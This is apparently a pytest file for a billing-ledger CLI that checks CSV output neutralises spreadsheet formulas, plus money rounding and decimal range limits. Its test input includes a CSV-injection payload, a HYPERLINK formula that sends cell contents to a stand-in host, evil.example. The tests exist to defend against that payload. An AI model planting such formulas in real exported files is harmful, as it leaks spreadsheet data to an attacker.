"""Output: CSV cells a spreadsheet would run as formulas are neutralised; JSON keeps the text."""

from __future__ import annotations

import json
from decimal import Decimal

from typer.testing import CliRunner

from computeledger import output
from computeledger.cli import app
from tests.conftest import read_rows, write_rows

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_csv_neutralises_formulas_and_keeps_numbers():
    table = output.from_rows([
        {"name": EVIL, "other": "+1", "at": "@SUM(A1)", "minus": "-2+3", "amount": Decimal("-5.25"), "n": -3},
        {"name": "plain", "other": "a=b", "at": None, "minus": "x", "amount": Decimal("1"), "n": 2},
    ])  # fmt: skip
    lines = output.to_csv(table).splitlines()
    assert (
        lines[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'+1,\'@SUM(A1),\'-2+3,-5.25,-3'
    )
    assert lines[2] == "plain,a=b,,x,1.00,2"
    assert json.loads(output.to_json(table))[0]["name"] == EVIL


def test_summary_csv_of_a_hostile_provider_name(tmp_path, sample):
    header, rows = read_rows(sample)
    col = header.index("ProviderName")
    rows = [r[:col] + [EVIL] + r[col + 1 :] for r in rows[:5]]
    bill = write_rows(tmp_path / "evil.csv", header, rows)
    ledger = str(tmp_path / "l.duckdb")
    runner = CliRunner()
    assert runner.invoke(app, ["ingest", str(bill), "--ledger", ledger]).exit_code == 0
    r = runner.invoke(app, ["summary", "--by", "provider", "--format", "csv", "--ledger", ledger])
    assert r.exit_code == 0
    assert all(not line.startswith("=") and ',"=' not in line for line in r.output.splitlines())
    r = runner.invoke(app, ["summary", "--by", "provider", "--format", "json", "--ledger", ledger])
    assert json.loads(r.output)[0]["provider"] == EVIL


def test_tables_show_money_to_the_cent_and_exact_one_flag_away(tmp_path, sample):
    ledger = str(tmp_path / "l.duckdb")
    runner = CliRunner()
    assert runner.invoke(app, ["ingest", str(sample), "--ledger", ledger]).exit_code == 0
    csv_text = runner.invoke(app, ["summary", "--format", "csv", "--ledger", ledger]).output
    exact = csv_text.splitlines()[1].split(",")[2]  # a provider's BilledCost, every digit
    shown = runner.invoke(app, ["summary", "--ledger", ledger]).output
    every = runner.invoke(app, ["--exact", "summary", "--ledger", ledger]).output
    assert exact in every and exact not in shown
    assert str(Decimal(exact).quantize(Decimal("0.01"))) in shown


def test_screen_text_rounds_for_reading_only():
    output.SCREEN["exact"] = False
    assert output.screen_text(Decimal("-0.000000066572049375")) == "-0.00000006657"
    assert output.screen_text(Decimal("1234.565")) == "1,234.56"
    assert output.screen_text(Decimal("1234567")) == "1,234,567.00"
    assert output.screen_text(Decimal("0.074512")) == "0.07451"
    assert output.screen_text(Decimal("0")) == "0.00"
    assert output.screen_text(7) == "7"


def test_words_are_not_broken_in_a_narrow_table():
    from rich.console import Console

    table = output.from_rows([{"regime": "latency-bound", "note": "a b c"}])
    console = Console(width=30, record=True)
    console.print(output.to_rich(table))
    text = console.export_text()
    assert "latency-bound" in text


def test_a_figure_past_the_printed_range_is_one_line_and_digits_past_the_18th_are_rounded():
    from decimal import Decimal

    import pytest

    from computeledger.errors import UsageError
    from computeledger.output import from_rows

    got = from_rows([{"x": Decimal("0.1234567890123456785"), "y": Decimal("-2.0000000000000000005")}])
    assert got.to_pylist() == [{"x": Decimal("0.123456789012345678"), "y": Decimal("-2.000000000000000000")}]
    with pytest.raises(UsageError, match="total: a figure of 39 digits is past the range"):
        from_rows([{"total": Decimal("9" * 39)}])
    with pytest.raises(UsageError, match="a figure of 21 digits"):
        from_rows([{"total": Decimal("1" + "0" * 20)}])
    widest = Decimal("9" * 20 + ".5")  # 20 digits before the point: the widest that fits
    assert from_rows([{"total": widest}]).to_pylist() == [{"total": widest}]
